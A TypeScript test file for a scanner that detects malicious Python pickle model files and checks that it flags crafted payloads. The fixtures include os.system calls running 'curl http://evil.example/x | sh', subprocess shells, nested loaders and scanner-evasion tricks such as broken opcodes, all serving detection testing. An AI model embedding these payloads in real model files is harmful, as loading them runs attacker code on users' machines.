import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { detectFormat } from '../../src/formats/index.ts';
import { looksLikeTextPickle, pickleFormat, startsWithProto } from '../../src/formats/pickle.ts';
import { createNodeSha256 } from '../../src/hash/node-sha256.ts';
import { createMemorySource } from '../../src/io/memory-source.ts';
import type { FileReport } from '../../src/report/types.ts';
import { scanSource } from '../../src/scan.ts';
import * as p from '../builders/pickle.ts';

const fixture = (name: string) => new Uint8Array(readFileSync(new URL(`../fixtures/torch/${name}`, import.meta.url)));
const encoder = new TextEncoder();

const scan = (bytes: Uint8Array, name = 'model.pkl', chunkSize?: number): Promise<FileReport> =>
  scanSource(createMemorySource(bytes, name), { createSha256: createNodeSha256, chunkSize });

const rulesOf = (report: FileReport) => report.findings.map((finding) => finding.rule);

describe('pickleFormat.detect', () => {
  it.each([0, 1, 2, 3, 4, 5])('detects ordinary data pickled at protocol %i', (protocol) => {
    const bytes = fixture(`data_protocol_${protocol}.pkl`);
    expect(pickleFormat.detect(bytes.subarray(0, 64 * 1024), 'x')).toBe(true);
    expect(detectFormat(bytes, 'no-extension')?.id).toBe('pickle');
  });

  it.each([
    ['None at protocol 0', 'N.'],
    ['an int at protocol 0', 'I1\n.'],
    ['a list at protocol 0', '(lp0\n.'],
    ['a protocol 0 payload', "cos\nsystem\n(S'id'\ntR."],
    ['a dangerous import cut short', 'cos\nsystem\n\xff'],
  ])('detects %s', (_name, text) => {
    expect(pickleFormat.detect(encoder.encode(text), 'x')).toBe(true);
  });

  it('detects a protocol 0 payload that breaks after its import (nullifAI)', () => {
    expect(looksLikeTextPickle(encoder.encode("cos\nsystem\n(S'id'\ntR\xff"))).toBe(true);
  });

  it.each([
    ['PROTO 2', [0x80, 0x02, 0x4e, 0x2e], true],
    ['PROTO 0 (allowed by Python)', [0x80, 0x00, 0x4e, 0x2e], true],
    ['PROTO 6 then a frame (detected, reported as unsupported)', [0x80, 0x06, 0x95], true],
    ['0x80 then noise', [0x80, 0x7f, 0x00], false],
    ['0x80 alone', [0x80], false],
  ])('startsWithProto: %s', (_name, bytes, expected) => {
    expect(startsWithProto(Uint8Array.from(bytes))).toBe(expected);
  });

  it.each([
    ['empty', ''],
    ['plain text', 'Hello, world!\n'],
    ['text starting with N', 'Note: nothing here\n'],
    ['JSON', '{"a": 1}'],
    ['a JSON array', '[1, 2]'],
    ['Python source', 'import os\nos.system("id")\n'],
    ['Python source opening with a class', 'class TinyNet(nn.Module):\n    def forward(self, x):\n        return x\n'],
    ['a copyright line', '(c) 2024 Example Corp\nAll rights reserved.\n'],
    ['text opening with i', 'if __name__ == "__main__":\n    main()\n'],
    ['a vocabulary that opens with a c word', 'cat\ndog\nbird\nfish\n'],
    ['CSV', 'a,b,c\n1,2,3\n'],
    ['a lone STOP', '.'],
    ['GGUF magic', 'GGUF\x03\x00\x00\x00'],
  ])('does not claim %s', (_name, text) => {
    expect(pickleFormat.detect(encoder.encode(text), 'x.pkl')).toBe(false);
  });

  it('does not claim zip, gzip or 7z heads', () => {
    for (const head of [[0x50, 0x4b, 0x03, 0x04, 0x0a, 0x71, 0x00], [0x1f, 0x8b, 0x08, 0x00], [0x37, 0x7a, 0xbc, 0xaf, 0x27, 0x1c]]) {
      expect(pickleFormat.detect(Uint8Array.from(head), 'x')).toBe(false);
    }
  });

  it('never throws on random heads', () => {
    let seed = 12345;
    const next = () => {
      seed = (seed * 1103515245 + 12345) >>> 0;
      return seed >>> 24;
    };
    for (let round = 0; round < 300; round += 1) {
      const head = Uint8Array.from({ length: round % 50 }, next);
      if (round % 3 === 0 && head.length > 0) head[0] = 0x28;
      expect(() => pickleFormat.detect(head, 'x')).not.toThrow();
    }
  });
});

describe('raw pickles end to end', () => {
  // weightsOnly expectations were checked once with torch 1.13 by make_fixtures.py
  // (manifest.json, restrictedUnpicklerAcceptsFirstPickle: torch._weights_only_unpickler
  // on the file). Protocols 0/1 use text opcodes and 4/5 use FRAME, which the restricted
  // unpickler does not implement; protocols 2/3 need only allowed opcodes and OrderedDict.
  it.each([
    ['data_protocol_0.pkl', false],
    ['data_protocol_1.pkl', false],
    ['data_protocol_2.pkl', true],
    ['data_protocol_3.pkl', true],
    ['data_protocol_4.pkl', false],
    ['data_protocol_5.pkl', false],
    // Refused by torch with "Unsupported class numpy.core.multiarray._reconstruct".
    ['numpy_array_p2.pkl', false],
  ])('%s is clean, and weights_only accepts it: %s', async (file, accepted) => {
    const report = await scan(fixture(file), file);
    expect(report.format).toBe('pickle');
    expect(report.verdict).toBe('clean');
    expect(report.findings.every((finding) => finding.severity === 'info')).toBe(true);
    expect(report.weightsOnly?.accepted).toBe(accepted);
    expect(report.sha256).toMatch(/^[0-9a-f]{64}$/);
  });

  it('refuses numpy at its first global, as torch does', async () => {
    const report = await scan(fixture('numpy_array_p2.pkl'));
    expect(report.weightsOnly?.firstRefused).toMatchObject({ module: 'numpy.core.multiarray', name: '_reconstruct', offset: 2 });
  });

  const curl = 'curl http://evil.example/x | sh';
  const cases: {
    name: string;
    bytes: Uint8Array;
    verdict: FileReport['verdict'];
    rules: string[];
    evidence?: string;
    /** Whether torch.load(weights_only=True) accepts the pickle; false unless said. */
    weightsOnly?: boolean;
  }[] = [
    {
      name: 'GLOBAL + REDUCE payload (protocol 2)',
      bytes: p.payload('os', 'system', curl),
      verdict: 'dangerous',
      rules: ['pickle.import.process', 'pickle.call.dangerous'],
      evidence: `os.system("${curl}")`,
    },
    {
      name: 'protocol 0 text payload',
      bytes: p.pickle(p.global('posix', 'system'), p.mark(), p.string(curl), p.tuple(), p.reduce(), p.stop()),
      verdict: 'dangerous',
      rules: ['pickle.import.process', 'pickle.call.dangerous'],
    },
    {
      name: 'payload then a broken opcode (nullifAI)',
      bytes: p.pickle(p.payload('os', 'system', curl).subarray(0, -1), p.raw(0xff), p.stop()),
      verdict: 'dangerous',
      rules: ['pickle.import.process', 'pickle.call.dangerous', 'pickle.stream.unknown-opcode', 'pickle.stream.broken-after-code'],
    },
    {
      name: 'payload then truncation',
      bytes: p.payload('subprocess', 'Popen', 'sh').subarray(0, -1),
      verdict: 'dangerous',
      rules: ['pickle.import.process', 'pickle.stream.truncated', 'pickle.stream.broken-after-code'],
    },
    {
      name: 'stacked pickles, payload after the first STOP',
      bytes: p.pickle(p.proto(2), p.emptyDict(), p.stop(), p.payload('os', 'system', curl)),
      verdict: 'dangerous',
      rules: ['pickle.stream.multiple-pickles', 'pickle.import.process', 'pickle.call.dangerous'],
    },
    {
      name: 'nested loader with a bytes argument',
      bytes: p.pickle(p.proto(3), p.call(p.global('pickle', 'loads'), p.binbytes(p.payload('os', 'system', curl))), p.stop()),
      verdict: 'dangerous',
      rules: ['pickle.import.nested-loader', 'pickle.call.dangerous', 'pickle.import.process'],
    },
    {
      name: 'OBJ then POP (result discarded)',
      bytes: p.pickle(p.proto(2), p.mark(), p.global('os', 'system'), p.binunicode(curl), p.obj(), p.pop(), p.none(), p.stop()),
      verdict: 'dangerous',
      rules: ['pickle.import.process', 'pickle.call.dangerous'],
      evidence: `os.system("${curl}")`,
    },
    {
      name: 'STACK_GLOBAL with operands from the memo',
      bytes: p.pickle(
        p.proto(4),
        p.shortBinUnicode('os'),
        p.memoize(),
        p.shortBinUnicode('system'),
        p.memoize(),
        p.pop(),
        p.pop(),
        p.binget(0),
        p.binget(1),
        p.stackGlobal(),
        p.shortBinUnicode('id'),
        p.tuple1(),
        p.reduce(),
        p.stop(),
      ),
      verdict: 'dangerous',
      rules: ['pickle.import.process', 'pickle.call.dangerous'],
    },
    {
      name: 'STACK_GLOBAL whose module is computed',
      bytes: p.pickle(p.proto(4), p.binint1(3), p.shortBinUnicode('system'), p.stackGlobal(), p.none(), p.stop()),
      verdict: 'dangerous',
      rules: ['pickle.import.unresolved'],
    },
    {
      name: 'EXT1 extension registry import',
      bytes: p.pickle(p.proto(2), p.ext1(1), p.emptyTuple(), p.reduce(), p.stop()),
      verdict: 'dangerous',
      rules: ['pickle.extension-registry'],
    },
    {
      name: 'scanner-evasion import',
      bytes: p.payload('picklescan', 'scanner', 'x'),
      verdict: 'dangerous',
      rules: ['pickle.evasion.scanner-import'],
    },
    {
      name: 'protocol 6',
      bytes: p.pickle(p.proto(6), p.none(), p.stop()),
      verdict: 'malformed',
      rules: ['pickle.stream.protocol-unsupported'],
    },
    {
      name: 'FRAME that declares more than follows',
      bytes: p.pickle(p.proto(4), p.frame(64), p.emptyDict(), p.stop()),
      verdict: 'malformed',
      rules: ['pickle.stream.frame-mismatch'],
    },
    {
      name: 'bytes after the last pickle',
      bytes: p.pickle(p.proto(2), p.emptyList(), p.stop(), p.raw(0xfe, 0xfd, 0xfc)),
      verdict: 'suspicious',
      rules: ['pickle.stream.trailing-data'],
      // The restricted unpickler stops at the first STOP and never sees the rest.
      weightsOnly: true,
    },
    {
      name: 'an unvetted class',
      bytes: p.pickle(p.proto(2), p.global('acme.models', 'Net'), p.emptyTuple(), p.newobj(), p.stop()),
      verdict: 'suspicious',
      rules: ['pickle.import.unknown'],
    },
  ];

  it.each(cases)('$name → $verdict', async ({ bytes, verdict, rules, evidence, weightsOnly = false }) => {
    const report = await scan(bytes);
    expect(report.format).toBe('pickle');
    expect(report.verdict).toBe(verdict);
    for (const rule of rules) expect(rulesOf(report), rulesOf(report).join(', ')).toContain(rule);
    expect(report.weightsOnly?.accepted).toBe(weightsOnly);
    if (evidence) {
      const call = report.findings.find((finding) => finding.rule === 'pickle.call.dangerous');
      expect(call?.evidence).toBe(evidence);
      expect(call?.location.offset).toBeGreaterThan(0);
    }
  });

  it('gives the same report for any chunk size', async () => {
    const bytes = p.pickle(p.proto(3), p.call(p.global('pickle', 'loads'), p.binbytes(p.payload('os', 'system', curl))), p.stop(), p.raw(0xff));
    const whole = await scan(bytes);
    for (const chunkSize of [1, 3, 7, 64]) {
      const chunked = await scan(bytes, 'model.pkl', chunkSize);
      expect(chunked.findings).toEqual(whole.findings);
    }
  });

  it('finds a pickle under another format’s name and says so (CVE-2025-1889)', async () => {
    const report = await scan(p.payload('os', 'system', 'id'), 'model.safetensors');
    expect(report.format).toBe('pickle');
    expect(rulesOf(report)).toEqual(expect.arrayContaining(['format.extension-mismatch', 'pickle.import.process']));
  });

  it('reports an empty-looking PROTO-only file as a truncated pickle', async () => {
    const report = await scan(Uint8Array.from([0x80, 0x02]));
    expect(report.format).toBe('pickle');
    expect(report.verdict).toBe('malformed');
    expect(rulesOf(report)).toContain('pickle.stream.truncated');
  });
});
